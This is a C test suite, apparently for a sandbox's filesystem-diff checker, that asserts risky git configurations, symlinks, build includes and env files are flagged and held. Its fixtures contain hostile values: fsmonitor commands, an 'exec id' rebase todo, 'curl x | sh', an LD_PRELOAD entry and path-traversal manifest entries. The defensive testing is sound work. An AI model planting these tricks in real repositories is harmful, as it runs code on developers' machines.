	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int run = sub(d, "run");
	struct moat_manifest *m = NULL;
	static const char *const bad[] = {
		"{\"v\":1,\"entries\":[{\"path\":\"../x\",\"change\":\"created\",\"type\":\"file\",\"state\":\"held\"}]}",
		"{\"v\":1,\"entries\":[{\"path\":\"/etc/x\",\"change\":\"created\",\"type\":\"file\",\"state\":\"held\"}]}",
		"{\"v\":1,\"entries\":[{\"path\":\"a/./b\",\"change\":\"created\",\"type\":\"file\",\"state\":\"held\"}]}",
		"{\"v\":1,\"entries\":[{\"path\":\"a\",\"change\":\"bogus\",\"type\":\"file\",\"state\":\"held\"}]}",
		"{\"v\":2,\"entries\":[]}",
		"not json",
	};
	for (size_t i = 0; i < ELEMENTSOF(bad); i++) {
		int fd = openat(run, "manifest.json", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC,
				0600);
		ASSERT_TRUE(fd >= 0);
		ASSERT_EQ(write(fd, bad[i], strlen(bad[i])), (ssize_t)strlen(bad[i]));
		close(fd);
		ASSERT_EQ(moat_fsdiff_load(run, &m), -EBADMSG);
	}
	/* a FIFO loaded from a manifest is refused again, whatever the file says */
	const char *fifo =
		"{\"v\":1,\"entries\":[{\"path\":\"p\",\"change\":\"created\",\"type\":\"fifo\",\"mode\":\"0644\",\"state\":\"held\"}]}";
	int fd = openat(run, "manifest.json", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	ASSERT_EQ(write(fd, fifo, strlen(fifo)), (ssize_t)strlen(fifo));
	close(fd);
	ASSERT_EQ(moat_fsdiff_load(run, &m), 0);
	ASSERT_STREQ(m->entries[0].refused, "FIFO");
	moat_manifest_free(m);
}

/* ---- git indirections: repositories found by structure ------------------- */

static void mkd(int dfd, const char *path)
{
	char p[512];
	snprintf(p, sizeof(p), "%s", path);
	for (char *s = p;; s++) {
		if (*s == '/' || *s == '\0') {
			char c = *s;
			*s = '\0';
			if (mkdirat(dfd, p, 0755) < 0 && errno != EEXIST)
				moat_tap_fail(__FILE__, __LINE__, "mkdir %s: %m", p);
			*s = c;
			if (!c)
				break;
		}
	}
}

/* A minimal repository skeleton (what git's discovery accepts) at dir. */
static void repo(int dfd, const char *dir, const char *config)
{
	char p[512];
	mkd(dfd, dir);
	snprintf(p, sizeof(p), "%s/objects", dir);
	mkd(dfd, p);
	snprintf(p, sizeof(p), "%s/refs/heads", dir);
	mkd(dfd, p);
	snprintf(p, sizeof(p), "%s/HEAD", dir);
	put(dfd, p, "ref: refs/heads/main\n", 0644);
	if (config) {
		snprintf(p, sizeof(p), "%s/config", dir);
		put(dfd, p, config, 0644);
	}
}

static const char *flag_of(const struct moat_manifest *m, const char *path)
{
	return must(m, path)->flagged;
}

TEST(fsdiff_git_gitdir_file_and_bare_repo_by_structure)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	put(lower, "README", "x", 0644);
	/* a .git FILE sends git to ./elsewhere: its config is the live one */
	put(upper, ".git", "gitdir: ./elsewhere\n", 0644);
	repo(upper, "elsewhere", "[core]\n\tfsmonitor = ./evil.sh\n");
	put(upper, "evil.sh", "#!/bin/sh\n", 0644);
	/* a bare repository under a name that is not .git */
	repo(upper, "proj.d",
	     "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"sh -c id\"\n");
	/* a directory that only looks like data */
	mkd(upper, "data/objects");
	put(upper, "data/notes.txt", "plain", 0644);
	/* a .git directory that is not (yet) a repository: git init keeps it */
	mkd(upper, "pre/.git/info");
	put(upper, "pre/.git/info/exclude", "*", 0644);

	/* positive control: the name rules alone do not see these */
	ASSERT_TRUE(moat_flag_match(NULL, "elsewhere/config", S_IFREG) == NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "proj.d/config", S_IFREG) == NULL);

	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(flag_of(m, ".git"), "gitdir");
	ASSERT_CONTAINS(flag_of(m, "elsewhere/config"), "repository created in this run");
	ASSERT_CONTAINS(flag_of(m, "elsewhere/HEAD"), "repository created in this run");
	ASSERT_CONTAINS(flag_of(m, "evil.sh"), "program run by git");
	ASSERT_CONTAINS(flag_of(m, "proj.d/config"), "repository created in this run");
	ASSERT_CONTAINS(flag_of(m, "proj.d"), "repository created in this run");
	/* negative controls */
	ASSERT_CONTAINS(flag_of(m, "pre/.git/info/exclude"), "repository created in this run");
	ASSERT_TRUE(flag_of(m, "data/notes.txt") == NULL);
	ASSERT_TRUE(flag_of(m, "data/objects") == NULL);
	moat_manifest_free(m);
}

TEST(fsdiff_git_workspace_root_becomes_bare_repo)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	put(lower, "main.c", "int main;", 0644);
	mkd(upper, "objects");
	mkd(upper, "refs");
	put(upper, "HEAD", "ref: refs/heads/x\n", 0644);
	put(upper, "config", "[core]\n\tfsmonitor = /bin/id\n", 0644);
	put(upper, "main.c", "int main(void);", 0644);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(flag_of(m, "config"), "repository created in this run");
	ASSERT_CONTAINS(flag_of(m, "main.c"), "repository created in this run");
	moat_manifest_free(m);
}

TEST(fsdiff_git_existing_repo_data_vs_control)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	repo(lower, ".git",
	     "[core]\n\thooksPath = .githooks\n\tfsmonitor = scripts/fsmon.sh\n"
	     "[include]\n\tpath = ../tools/git.inc\n"
	     "[includeIf \"onbranch:main\"]\n\tpath = ../tools/branch.inc\n"
	     "[alias]\n\tst = !./bin/st.sh --x\n\tco = checkout\n");
	mkd(lower, "tools");
	put(lower, "tools/git.inc", "[user]\n\tname = x\n\t[include]\n\tpath = nested.inc\n", 0644);
	put(lower, "tools/other.txt", "o", 0644);

	/* ordinary repository data: applied */
	mkd(upper, ".git/objects/ab");
	put(upper, ".git/objects/ab/cdef", "blob", 0444);
	mkd(upper, ".git/refs/heads");
	put(upper, ".git/refs/heads/main", "0123\n", 0644);
	put(upper, ".git/HEAD", "ref: refs/heads/topic\n", 0644);
	put(upper, ".git/index", "DIRC", 0644);
	/* control files by structure, not only by the built-in names */
	mkd(upper, ".git/rebase-merge");
	put(upper, ".git/rebase-merge/git-rebase-todo", "exec id\n", 0644);
	mkd(upper, ".git/modules/sub");
	put(upper, ".git/modules/sub/config", "[core]\n\tsshCommand = ./x\n", 0644);
	/* what the existing config references */
	mkd(upper, "tools");
	put(upper, "tools/git.inc", "[core]\n\tpager = ./p\n", 0644);
	put(upper, "tools/branch.inc", "[core]\n", 0644);
	put(upper, "tools/nested.inc", "[core]\n", 0644);
	put(upper, "tools/other.txt", "changed", 0644);
	mkd(upper, ".githooks");
	put(upper, ".githooks/pre-commit", "#!/bin/sh\n", 0644);
	mkd(upper, "scripts");
	put(upper, "scripts/fsmon.sh", "#!/bin/sh\n", 0644);
	mkd(upper, "bin");
	put(upper, "bin/st.sh", "#!/bin/sh\n", 0644);
	put(upper, "checkout", "not a program: the alias has no !", 0644);

	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_TRUE(flag_of(m, ".git/objects/ab/cdef") == NULL);
	ASSERT_TRUE(flag_of(m, ".git/refs/heads/main") == NULL);
	ASSERT_TRUE(flag_of(m, ".git/HEAD") == NULL);
	ASSERT_TRUE(flag_of(m, ".git/index") == NULL);
	ASSERT_CONTAINS(flag_of(m, ".git/rebase-merge/git-rebase-todo"), "found by structure");
	ASSERT_TRUE(flag_of(m, ".git/modules/sub/config") != NULL);
	ASSERT_CONTAINS(flag_of(m, "tools/git.inc"), "include.path");
	ASSERT_CONTAINS(flag_of(m, "tools/branch.inc"), "include.path");
	ASSERT_CONTAINS(flag_of(m, "tools/nested.inc"), "include.path");
	ASSERT_TRUE(flag_of(m, "tools/other.txt") == NULL);
	ASSERT_CONTAINS(flag_of(m, ".githooks/pre-commit"), "hooksPath");
	ASSERT_CONTAINS(flag_of(m, "scripts/fsmon.sh"), "program run by git");
	ASSERT_CONTAINS(flag_of(m, "bin/st.sh"), "program run by git");
	ASSERT_TRUE(flag_of(m, "checkout") == NULL);
	moat_manifest_free(m);
}

TEST(fsdiff_git_worktree_commondir_submodule)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	repo(lower, ".git", "[core]\n\tbare = false\n");
	/* a linked worktree: wt/.git -> .git/worktrees/w1, commondir -> ../.. */
	mkd(upper, "wt");
	put(upper, "wt/.git", "gitdir: ../.git/worktrees/w1\n", 0644);
	mkd(upper, ".git/worktrees/w1");
	put(upper, ".git/worktrees/w1/HEAD", "ref: refs/heads/w\n", 0644);
	put(upper, ".git/worktrees/w1/commondir", "../..\n", 0644);
	put(upper, ".git/worktrees/w1/gitdir", "../../wt/.git\n", 0644);
	/* an admin dir whose commondir is a directory with no HEAD of its own */
	mkd(upper, "adm");
	put(upper, "adm/HEAD", "ref: refs/heads/x\n", 0644);
	put(upper, "adm/commondir", "../common\n", 0644);
	mkd(lower, "common");
	put(lower, "common/config", "[user]\n", 0644);
	mkd(upper, "common");
	put(upper, "common/config", "[alias]\n\tx = !sh\n", 0644);
	/* a submodule checkout */
	put(upper, ".gitmodules", "[submodule \"s\"]\n\tpath = s\n", 0644);
	mkd(upper, "s");
	put(upper, "s/.git", "gitdir: ../.git/modules/s\n", 0644);
	repo(upper, ".git/modules/s", "[core]\n\tworktree = ../../../s\n");

	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(flag_of(m, "wt/.git"), "gitdir");
	ASSERT_TRUE(flag_of(m, ".git/worktrees/w1/commondir") != NULL);
	ASSERT_TRUE(flag_of(m, ".git/worktrees/w1/HEAD") != NULL);
	ASSERT_TRUE(flag_of(m, "adm/commondir") != NULL);
	ASSERT_CONTAINS(flag_of(m, "common/config"), "git");
	ASSERT_TRUE(flag_of(m, ".gitmodules") != NULL);
	ASSERT_TRUE(flag_of(m, "s/.git") != NULL);
	ASSERT_TRUE(flag_of(m, ".git/modules/s/config") != NULL);
	ASSERT_TRUE(flag_of(m, ".git/modules/s/HEAD") != NULL);
	moat_manifest_free(m);
}

TEST(fsdiff_git_symlinks_into_repositories)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	repo(lower, ".git", "[core]\n");
	mkd(lower, ".git/hooks");
	repo(lower, "vault/bare", "[core]\n\tbare = true\n");
	mkd(lower, "docs");
	put(lower, "docs/notes", "n", 0644);
	ASSERT_EQ(symlinkat(".git", lower, "dotgit-old"), 0);

	ASSERT_EQ(symlinkat(".git/hooks/pre-commit", upper, "hook-link"), 0);
	ASSERT_EQ(symlinkat(".git", upper, "gitlink"), 0);
	ASSERT_EQ(symlinkat("vault/bare", upper, "bare-link"), 0);
	ASSERT_EQ(symlinkat("vault/bare/config", upper, "bare-config-link"), 0);
	ASSERT_EQ(symlinkat("dotgit-old/config", upper, "chain"), 0); /* through a lower link */
	ASSERT_EQ(symlinkat("./x/../.bashrc", upper, "rc-link"), 0);
	mkd(upper, "sub");
	ASSERT_EQ(symlinkat("../.GIT/config", upper, "sub/case"), 0);
	ASSERT_EQ(symlinkat("../docs/notes", upper, "sub/plain"), 0);
	ASSERT_EQ(symlinkat("docs", upper, "docs-link"), 0);

	/* positive control: without following, these targets do not escape the
	 * workspace, so the old check let them through */
	ASSERT_TRUE(!moat_fsdiff_link_escapes("hook-link", ".git/hooks/pre-commit"));
	ASSERT_TRUE(!moat_fsdiff_link_escapes("bare-link", "vault/bare"));

	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(flag_of(m, "hook-link"), ".git");
	ASSERT_CONTAINS(flag_of(m, "gitlink"), ".git");
	ASSERT_CONTAINS(flag_of(m, "bare-link"), "git directory");
	ASSERT_CONTAINS(flag_of(m, "bare-config-link"), "git directory");
	ASSERT_CONTAINS(flag_of(m, "chain"), ".git");
	ASSERT_CONTAINS(flag_of(m, "rc-link"), "flagged path");
	ASSERT_CONTAINS(flag_of(m, "sub/case"), ".git");
	ASSERT_TRUE(flag_of(m, "sub/plain") == NULL);
	ASSERT_TRUE(flag_of(m, "docs-link") == NULL);
	moat_manifest_free(m);
}

TEST(fsdiff_git_config_parser_reasons)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	repo(lower, "vault", "[core]\n\tbare = true\n");
	repo(lower, "v2", "[core]\n\tbare = true\n");
	repo(lower, "v3", "[core]\n\tbare = true\n");
	/* continuation lines, quotes, comments, case */
	mkd(upper, "vault");
	put(upper, "vault/config",
	    "# comment\n[core] ; x\n\tbare = false\n[CORE]\n\tFSMonitor = \"./a\\\n b\" # c\n",
	    0644);
	/* the old [section.sub] syntax and a filter driver */
	mkd(upper, "v2");
	put(upper, "v2/config", "[filter.lfs]\n\tsmudge = ../smudge.sh %f\n", 0644);
	put(upper, "smudge.sh", "#!/bin/sh\n", 0644);
	/* nothing dangerous: still flagged (a config inside a git directory) */
	mkd(upper, "v3");
	put(upper, "v3/config", "[core]\n\tbare = true\n\tfsmonitor = false\n", 0644);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(flag_of(m, "vault/config"), "core.fsmonitor");
	ASSERT_CONTAINS(flag_of(m, "v2/config"), "names a program");
	ASSERT_CONTAINS(flag_of(m, "smudge.sh"), "program run by git");
	ASSERT_CONTAINS(flag_of(m, "v3/config"), "found by structure");
	moat_manifest_free(m);
}

static void setx(int dfd, const char *name, const char *x, const char *v)
{
	int fd = openat(dfd, name, O_RDONLY | O_NOFOLLOW | O_CLOEXEC);
	if (fd < 0 || fsetxattr(fd, x, v, strlen(v), 0) < 0)
		moat_tap_fail(__FILE__, __LINE__, "setxattr %s %s: %m", name, x);
	close(fd);
}

static ssize_t getx(int dfd, const char *name, const char *x, char *buf, size_t len)
{
	int fd = openat(dfd, name, O_RDONLY | O_NOFOLLOW | O_CLOEXEC);
	ssize_t n = fd >= 0 ? fgetxattr(fd, x, buf, len - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n >= 0)
		buf[n] = '\0';
	return n;
}

TEST(fsdiff_xattr_changes)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper"), tgt = sub(d, "tgt");
	_cleanup_close_ int run = sub(d, "run");
	struct moat_manifest *m = NULL;
	char buf[64];

	put(lower, "a", "same", 0644);
	if (fsetxattr(lower, "user.moat-probe", "1", 1, 0) < 0 && (errno == ENOTSUP))
		SKIP("the test directory's file system has no user xattrs");
	setx(lower, "a", "user.x", "1");
	put(lower, "Makefile", "all:\n", 0644);
	put(lower, "keep", "k", 0644);
	put(tgt, "a", "same", 0644);
	setx(tgt, "a", "user.x", "1");
	put(tgt, "Makefile", "all:\n", 0644);
	put(tgt, "keep", "k", 0644);

	put(upper, "a", "same", 0644);
	setx(upper, "a", "user.x", "2"); /* changed value */
	setx(upper, "a", "user.new", "n"); /* added */
	put(upper, "Makefile", "all:\n", 0644);
	setx(upper, "Makefile", "user.z", "z"); /* on a flagged path */
	put(upper, "keep", "k", 0644);
	setx(upper, "keep", "user.overlay.origin", "o"); /* overlay metadata: no change */
	put(upper, "b", "new", 0644);
	setx(upper, "b", "user.y", "y");

	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	const struct moat_fs_entry *e = must(m, "a");
	ASSERT_EQ(e->change, MOAT_FS_XATTR);
	ASSERT_CONTAINS(e->xattr_diff, "~user.x");
	ASSERT_CONTAINS(e->xattr_diff, "+user.new");
	ASSERT_TRUE(e->flagged == NULL);
	e = must(m, "Makefile");
	ASSERT_EQ(e->change, MOAT_FS_XATTR);
	ASSERT_CONTAINS(e->flagged, "build hook");
	ASSERT_TRUE(find(m, "keep") == NULL);
	ASSERT_CONTAINS(must(m, "b")->xattr_diff, "+user.y");
	_cleanup_free_ char *text = NULL;
	ASSERT_EQ(moat_manifest_to_text(m, &text), 0);
	ASSERT_CONTAINS(text, "x xattr    file    a (xattrs \"+user.new ~user.x\")");

	/* safe apply: the plain one lands, the flagged one is held */
	ASSERT_EQ(moat_fsdiff_apply(m, upper, tgt, MOAT_FSAPPLY_SAFE, NULL, NULL), 0);
	ASSERT_EQ(getx(tgt, "a", "user.x", buf, sizeof(buf)), 1);
	ASSERT_STREQ(buf, "2");
	ASSERT_EQ(getx(tgt, "a", "user.new", buf, sizeof(buf)), 1);
	ASSERT_EQ(getx(tgt, "b", "user.y", buf, sizeof(buf)), 1);
	ASSERT_EQ(must(m, "Makefile")->state, MOAT_FS_HELD);
	ASSERT_TRUE(getx(tgt, "Makefile", "user.z", buf, sizeof(buf)) < 0);

	/* saved and loaded, the held xattr change applies later (moat apply) */
	ASSERT_EQ(moat_fsdiff_save(m, upper, run, 0), 0);
	moat_manifest_free(m);
	m = NULL;
	ASSERT_EQ(moat_fsdiff_load(run, &m), 0);
	ASSERT_CONTAINS(must(m, "Makefile")->xattr_diff, "+user.z");
	_cleanup_close_ int store = moat_fsdiff_open_store(run);
	ASSERT_EQ(moat_fsdiff_apply(m, store, tgt, MOAT_FSAPPLY_ALL, NULL, NULL), 0);
	ASSERT_EQ(getx(tgt, "Makefile", "user.z", buf, sizeof(buf)), 1);
	moat_manifest_free(m);
}

TEST(fsdiff_held_cap_all_or_nothing)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper"), run = sub(d, "run");
	struct moat_manifest *m = NULL;
	uint64_t need = 0;

	put(upper, "Makefile", "0123456789", 0644);
	put(upper, ".bashrc", "0123456789", 0644);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_EQ(moat_fsdiff_apply(m, upper, lower, MOAT_FSAPPLY_SAFE, NULL, NULL), 0);
	ASSERT_EQ(moat_fsdiff_save_ex(m, upper, run, 15, &need), -EFBIG);
	ASSERT_EQ(need, 20);
	ASSERT_EQ(must(m, "Makefile")->state, MOAT_FS_DROPPED);
	ASSERT_EQ(must(m, ".bashrc")->state, MOAT_FS_DROPPED);
	ASSERT_TRUE(!exists_at(run, "held")); /* nothing kept */
	moat_manifest_free(m);
	m = NULL;
	ASSERT_EQ(moat_fsdiff_load(run, &m), 0);
	ASSERT_EQ(must(m, "Makefile")->state, MOAT_FS_DROPPED);
	_cleanup_close_ int tgt = sub(d, "tgt");
	ASSERT_EQ(moat_fsdiff_apply(m, -1, tgt, MOAT_FSAPPLY_ALL, NULL, NULL), 0);
	ASSERT_TRUE(!exists_at(tgt, "Makefile"));
	moat_manifest_free(m);
	/* positive control: with room, both are kept */
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_EQ(moat_fsdiff_apply(m, upper, lower, MOAT_FSAPPLY_SAFE, NULL, NULL), 0);
	ASSERT_EQ(moat_fsdiff_save_ex(m, upper, run, 20, &need), 0);
	ASSERT_EQ(must(m, "Makefile")->state, MOAT_FS_HELD);
	moat_manifest_free(m);
}

TEST(fsdiff_other_tools_files_included_by_path)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	put(lower, ".envrc", "source_env ./env/dev.sh\ndotenv\nexport X=1 # not a file\n", 0644);
	put(lower, "Makefile", "include config.local rules/$(ARCH).inc\n-include dep.d\n", 0644);
	put(lower, ".pre-commit-config.yaml",
	    "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: ./tools/lint.sh --fix\n", 0644);
	mkd(upper, "env");
	put(upper, "env/dev.sh", "curl x | sh\n", 0644);
	put(upper, ".env", "LD_PRELOAD=/tmp/x.so\n", 0644);
	put(upper, "config.local", "all:\n\tid\n", 0644);
	put(upper, "dep.d", "x: y\n", 0644);
	mkd(upper, "tools");
	put(upper, "tools/lint.sh", "#!/bin/sh\nid\n", 0644);
	put(upper, "tools/other.sh", "#!/bin/sh\n", 0644);
	put(upper, "X=1", "a file named like the export", 0644);

	/* positive control: none of these names is a flag rule */
	ASSERT_TRUE(moat_flag_match(NULL, "env/dev.sh", S_IFREG) == NULL);
	ASSERT_TRUE(moat_flag_match(NULL, "config.local", S_IFREG) == NULL);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(flag_of(m, "env/dev.sh"), ".envrc");
	ASSERT_CONTAINS(flag_of(m, ".env"), ".envrc");
	ASSERT_CONTAINS(flag_of(m, "config.local"), "Makefile");
	ASSERT_CONTAINS(flag_of(m, "dep.d"), "Makefile");
	ASSERT_CONTAINS(flag_of(m, "tools/lint.sh"), "pre-commit");
	ASSERT_TRUE(flag_of(m, "tools/other.sh") == NULL);
	ASSERT_TRUE(flag_of(m, "X=1") == NULL);
	moat_manifest_free(m);
}

TEST(fsdiff_git_include_reached_through_a_symlink)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
	struct moat_manifest *m = NULL;

	repo(lower, ".git", "[include]\n\tpath = ../tools/git.inc\n");
	/* tools -> evil: git reads evil/git.inc */
	ASSERT_EQ(symlinkat("evil", upper, "tools"), 0);
	mkd(upper, "evil");
	put(upper, "evil/git.inc", "[core]\n\tfsmonitor = ./x\n", 0644);
	put(upper, "evil/other", "o", 0644);
	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
	ASSERT_CONTAINS(flag_of(m, "tools"), "replaces a directory");
	ASSERT_CONTAINS(flag_of(m, "evil/git.inc"), "include.path");
	ASSERT_TRUE(flag_of(m, "evil/other") == NULL);
	moat_manifest_free(m);
}

TEST(fsdiff_git_user_config_references)
{
	_cleanup_(rmrfp) char *d = mktmp();
	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper"), home = sub(d, "home");
	struct moat_manifest *m = NULL;
	char ws[512], cfg[1024];

	snprintf(ws, sizeof(ws), "%s/lower", d);
	snprintf(cfg, sizeof(cfg), "[core]\n\tfsmonitor = %s/tools/mon.sh\n", ws);
	put(home, ".gitconfig",
	    "[core]\n\thooksPath = .ghooks\n[include]\n\tpath = ~/.gitconfig-work\n", 0644);
	put(home, ".gitconfig-work", cfg, 0644);
	snprintf(cfg, sizeof(cfg), "%s/home", d);
	setenv("HOME", cfg, 1);
	unsetenv("XDG_CONFIG_HOME");
	repo(lower, ".git", "[core]\n");
	mkd(upper, ".ghooks");
	put(upper, ".ghooks/pre-commit", "#!/bin/sh\n", 0644);
	mkd(upper, "tools");
	put(upper, "tools/mon.sh", "#!/bin/sh\n", 0644);
	put(upper, "tools/other.sh", "#!/bin/sh\n", 0644);
	ASSERT_EQ(moat_fsdiff_compute_ex(upper, lower, NULL,
					 &(struct moat_fsdiff_limits){.workspace = ws}, &m),
		  0);
	ASSERT_CONTAINS(flag_of(m, ".ghooks/pre-commit"), "hooksPath");
	ASSERT_CONTAINS(flag_of(m, "tools/mon.sh"), "program run by git");
	ASSERT_TRUE(flag_of(m, "tools/other.sh") == NULL);
	moat_manifest_free(m);
}
